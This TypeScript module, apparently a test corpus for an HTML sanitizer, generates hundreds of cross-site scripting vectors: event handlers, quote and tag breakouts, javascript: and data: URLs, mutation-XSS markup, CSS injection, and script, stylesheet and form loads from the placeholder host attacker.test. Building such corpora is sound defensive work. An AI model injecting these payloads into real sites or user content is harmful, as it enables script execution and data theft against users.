/**
 * Well-known ways to have HTML run a script, combined: elements with handlers, ends of what a text may
 * stand in, addresses, and markup that parsers change. Each calls `pwned`, or requests something from
 * `attacker.test`.
 */

/** Writes each combination of two lists. */
const cross = <A, B>(
  first: readonly A[],
  second: readonly B[],
  write: (one: A, other: B) => string,
): string[] => first.flatMap((one) => second.map((other) => write(one, other)));

/** The call in the encodings that an attribute or a script decodes. */
const CALLS = [
  'pwned()',
  'pwned`1`',
  'top.pwned()',
  '&#112;wned&#40;&#41;',
  '&#x70;wned&lpar;&rpar;',
  '&#0000112wned&#x0028;&#x29',
  '\\u0070wned()',
  "window['pw'+'ned']()",
  'eval(&quot;pwned()&quot;)',
  '(0,pwned)(/*',
  'throw onerror=pwned,1',
];

/** The call as a whole attribute value in each way to write one. */
const VALUES = [
  ...CALLS.map((call) => (/[\s"]/.test(call) ? `'${call}'` : call)),
  '"pwned()"',
  "'pwned()'",
  '" \tpwned()\n"',
  '"pwned()//',
  '`pwned()`',
];

/** Handlers that fire by themselves, with an element on which they do. */
const LOADED = [
  '<img src=x onerror=#>',
  '<image src=x onerror=#>',
  '<svg onload=#>',
  '<svg><animate onbegin=# attributeName=x dur=1s>',
  '<svg><set onbegin=# attributeName=x>',
  '<body onload=#>',
  '<iframe onload=#></iframe>',
  '<video src=x onerror=#></video>',
  '<video><source onerror=# src=x></video>',
  '<audio src=x onerror=#></audio>',
  '<object data=x onerror=#></object>',
  '<embed src=x onerror=#>',
  '<link rel=stylesheet href=x onerror=#>',
  '<script src=x onerror=#></script>',
  '<style onload=#></style>',
  '<details open ontoggle=#><summary>a</summary></details>',
  '<input autofocus onfocus=#>',
  '<a id=x tabindex=1 autofocus onfocus=# href=#x>a</a>',
  '<marquee onstart=#>a</marquee>',
  '<x-y style=animation:a onanimationstart=#>a</x-y>',
];

/** Handlers that fire when somebody does something, on elements of any kind. */
const TOUCHED = cross(
  [
    'a href=x',
    'button',
    'p tabindex=0',
    'div contenteditable',
    'summary',
    'hearth-quote',
    'svg',
    'x',
  ],
  ['onclick', 'onmouseover', 'onpointerenter', 'onfocus', 'ONCLICK', 'on\u017fcroll onclick'],
  (element, handler) => `<${element} ${handler}=#>touch me</${element.split(' ')[0]}>`,
);

/** What may stand between a tag's name and its attributes, and in an attribute. */
const SEPARATORS = [
  '/',
  '\t',
  '\n',
  '\f',
  '\r',
  '/x=">"/',
  ' a="<" ',
  "'a'",
  '\0',
  '\u00a0',
  ' x=`',
];

const HANDLERS = [
  ...cross(LOADED, VALUES, (element, value) => element.replace('#', () => value)),
  ...TOUCHED.map((element, index) =>
    element.replace('#', () => VALUES[index % VALUES.length] ?? ''),
  ),
  ...SEPARATORS.flatMap((mark) => [
    `<img${mark}src=x${mark}onerror=pwned()>`,
    `<svg${mark}onload${mark}=${mark}pwned()${mark}>`,
  ]),
];

/** What ends the element, the attribute, the string or the comment that a text stands in. */
const ENDS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '`>',
    '" ',
    "' ",
    '\\"',
    "\\'",
    '&quot;',
    '&#39;',
    '\\u0022',
    '"]',
    "']",
  ],
  ...['-->', '--!>', '*/', ']]>', '?>', '%>', '}}', '\n\n', '[/hearth_story]', '[/hearth_quote]'],
  ...['title', 'textarea', 'style', 'script', 'noscript', 'template', 'iframe', 'xmp', 'svg'].map(
    (name) => `</${name}>`,
  ),
  ...['a', 'p', 'div', 'li', 'blockquote', 'hearth-story', 'hearth-quote'].map(
    (name) => `</${name}>`,
  ),
];

const BREAKOUTS = cross(
  ENDS,
  [
    '<img src=x onerror=pwned()>',
    '<script>pwned()</script>',
    'onmouseover=pwned() tabindex=0 ',
    '<svg/onload=pwned()>',
    'autofocus onfocus=pwned() ',
    '<a href=javascript:pwned()>a',
  ],
  (end, rest) => end + rest,
);

/** Addresses that run a script, as attributes decode them. */
const SCRIPT_ADDRESSES = [
  ...[
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    'javascript&colon;pwned()',
    'javascript&#58;pwned()',
  ],
  ...['&#106;avascript:pwned()', '&#x6A&#x61;vascript:pwned()', 'java&Tab;script:pwned()'],
  ...[
    'java&NewLine;script&colon;pwned&lpar;&rpar;',
    'java&#10;script:pwned()',
    '&#1;javascript:pwned()',
  ],
  ...['&nbsp;javascript:pwned()', 'javascript&#0;:pwned()', 'javascript://%0apwned()'],
  ...['javascript:top.pwned()', 'javascript:%70wned()', 'javascript:/**/pwned()', 'vbscript:pwned'],
  ...['data:text/html,<script>top.pwned()</script>', 'data:image/svg+xml,<svg onload=pwned()>'],
  ...['data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoKTwvc2NyaXB0Pg==', '//attacker.test/#'],
  ...['feed:javascript:pwned()', 'view-source:javascript:pwned()', 'blob:javascript:pwned()'],
];

const LINKS = cross(
  [
    ...['<a href="#">a</a>', '<area href="#">', '<iframe src="#"></iframe>', '<embed src="#">'],
    ...['<object data="#"></object>', '<form action="#"><button>a</button></form>'],
    ...[
      '<form><button formaction="#">a</button></form>',
      '<svg><a xlink:href="#"><text y=9>a</text></a></svg>',
    ],
    ...['<math><mi href="#">a</mi></math>', '<img src="#">', '<script src="#"></script>'],
    ...['<base href="#"><a href=x>a</a>', '<meta http-equiv=refresh content="0;url=#">'],
    ...['<blockquote cite="#">a</blockquote>', '<hearth-story src="#"></hearth-story>'],
    ...['<div class="hearth-story" data-src="#"></div>', '<link rel=stylesheet href="#">'],
  ],
  SCRIPT_ADDRESSES,
  (element, address) => element.replace('#', () => address),
);

/** Markup that is harmless when it is parsed once, and is not after it was written and parsed again. */
const MUTATING = [
  '<math><mi><img src=x onerror=pwned()></mi></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<svg></br><style><a id="</style><img src=1 onerror=pwned()>">',
  '<math></p><style><!--</style><img src/onerror=pwned()>--></math>',
  '<math><mtext><table><mglyph><style><math><img src onerror=pwned()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=pwned()>">',
  '<noscript><p id="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<noembed><p id="</noembed><img src=x onerror=pwned()>"></noembed>',
  '<xmp><p id="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<textarea><p id="</textarea><img src=x onerror=pwned()>"></textarea>',
  '<title><p id="</title><svg/onload=pwned()>"></title>',
  '<table><td><a id="<table><td></table><img src=x onerror=pwned()>">',
  '<a id="`><img src=x onerror=pwned()>">a</a>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=pwned()&gt;">a</p>',
  '<p>&amp;lt;img src=x onerror=pwned()&amp;gt;</p>',
  '&lt;img src=x onerror=pwned()&gt;',
  '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
  '<<b>img src=x onerror=pwned()></b>',
  '<scr<b></b>ipt>pwned()</script>',
  '<img <b>src=x onerror=pwned()></b>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=pwned()>">',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwned()&gt;</style></svg>',
  '<svg><desc><template><style></desc></svg><img src=x onerror=pwned()></style>',
];

/** Templates, slots, frames and styles. */
const OTHERS = [
  '<template shadowrootmode=open><img src=x onerror=pwned()></template>',
  '<div><template shadowrootmode=open><slot></slot><script>pwned()</script></template></div>',
  '<template><script>pwned()</script></template>',
  '<slot><img src=x onerror=pwned()></slot>',
  '<p slot=x onclick=pwned() tabindex=0>a</p>',
  '<slot name="x" onslotchange=pwned()></slot>',
  ...[
    '<script>parent.pwned()</script>',
    '&lt;script&gt;top.pwned()&lt;/script&gt;',
    '&#60;img src=x onerror=top.pwned()&#62;',
    '<svg onload=top.pwned()>',
  ].flatMap((inside) => [
    `<iframe srcdoc='${inside}'></iframe>`,
    `<iframe sandbox=allow-scripts srcdoc='${inside}'>`,
  ]),
  ...[
    'background:url(javascript:pwned())',
    'background:url(//attacker.test/a)',
    'background:u\\72l(//attacker.test/b)',
    'width:expression(pwned())',
    '-moz-binding:url(//attacker.test/c#d)',
    'behavior:url(#default#pwned)',
    'list-style-image:url("//attacker.test/d")',
    "}*{background:url('//attacker.test/e')}",
    'position:fixed;inset:0;z-index:9999',
  ].flatMap((css) => [`<p style="${css}">a</p>`, `<style>p{${css}}</style>`, css]),
  '<style>@import "//attacker.test/f.css";</style>',
  '<link rel=stylesheet href=//attacker.test/g.css>',
  '<link rel="preload modulepreload prefetch" as=script href=//attacker.test/h.js>',
  '<script src=//attacker.test/i.js></script>',
  '<script type=module>import "//attacker.test/j.js"</script>',
  '<script type=importmap>{"imports":{"/":"//attacker.test/"}}</script>',
  '<script data-hearth=quote src=//attacker.test/k.js></script>',
  '<script type="application/json">{"headline": "pwned"}</script>',
  '<object data=//attacker.test/l></object>',
  '<iframe src=//attacker.test/m></iframe>',
  '<form action=//attacker.test/n><button autofocus>a</button></form>',
  '<base href=//attacker.test/>',
  '<a ping=//attacker.test/o href=x>a</a>',
];

/** Each of them once. */
export const VECTORS: readonly string[] = [
  ...new Set([...HANDLERS, ...BREAKOUTS, ...LINKS, ...SCRIPT_ADDRESSES, ...MUTATING, ...OTHERS]),
];
